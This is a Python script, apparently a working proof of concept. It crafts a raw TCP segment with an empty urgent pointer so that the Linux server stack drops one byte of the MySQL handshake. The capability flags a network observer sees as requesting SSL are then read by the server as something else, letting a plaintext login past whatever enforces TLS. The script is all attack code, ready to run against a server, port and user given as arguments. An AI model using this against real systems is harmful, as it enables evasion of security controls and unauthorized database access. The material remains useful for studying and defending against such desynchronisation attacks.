"""A plaintext login behind an empty segment with URG: SERVER PORT USER. Prints `in` or what came instead.

Linux takes the urgent pointer of a segment without payload, and takes the byte there out of the stream when it
comes in a segment without URG (RFC 6093 section 3.1). The byte at offset 4 is one too many for the server, so that
what stands at offset 5 on the wire is the first byte of the capability flags, not the second.
"""

import socket
import struct
import sys
import time

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
RECV_QUEUE, SEND_QUEUE, NO_WINDOW_PROBE = 1, 2, -1
ACK, URG = 0x10, 0x20


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def sequence_numbers(client):
    numbers = []
    client.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    for queue in (SEND_QUEUE, RECV_QUEUE):
        client.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        number = client.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4)
        numbers += struct.unpack("I", number)
    client.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, NO_WINDOW_PROBE)
    return numbers


def empty_urgent(client, pointer):
    (here, port), (there, to) = client.getsockname(), client.getpeername()
    seq, ack = sequence_numbers(client)
    header = struct.pack("!HHIIBBHHH", port, to, seq, ack, 5 << 4, ACK | URG, 512, 0, pointer)
    pseudo = socket.inet_aton(here) + socket.inet_aton(there) + struct.pack("!BBH", 0, 6, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.sendto(header, (there, 0))


def login(user, greeting):
    # CONNECT_WITH_DB is 0x08 in the first byte, where a reader of the wire sees CLIENT_SSL.
    caps = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000
    plugin = b"caching_sha2_password" if b"caching_sha2_password" in greeting else b"mysql_native_password"
    payload = struct.pack("<IIB", caps, 1 << 24, 45) + bytes(23) + user + b"\0\0"
    payload += b"information_schema\0" + plugin + b"\0"
    return struct.pack("<I", len(payload))[:3] + b"\1" + b"X" + payload


def main():
    server, port, user = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
    client = socket.create_connection((server, port))
    client.settimeout(3)
    greeting = client.recv(4096)
    empty_urgent(client, 5)
    time.sleep(0.2)
    client.send(login(user, greeting))
    try:
        answer = client.recv(4096)
    except OSError as error:
        answer = b""
        print(error)
    print("in" if answer[4:5] == b"\0" else answer)


main()
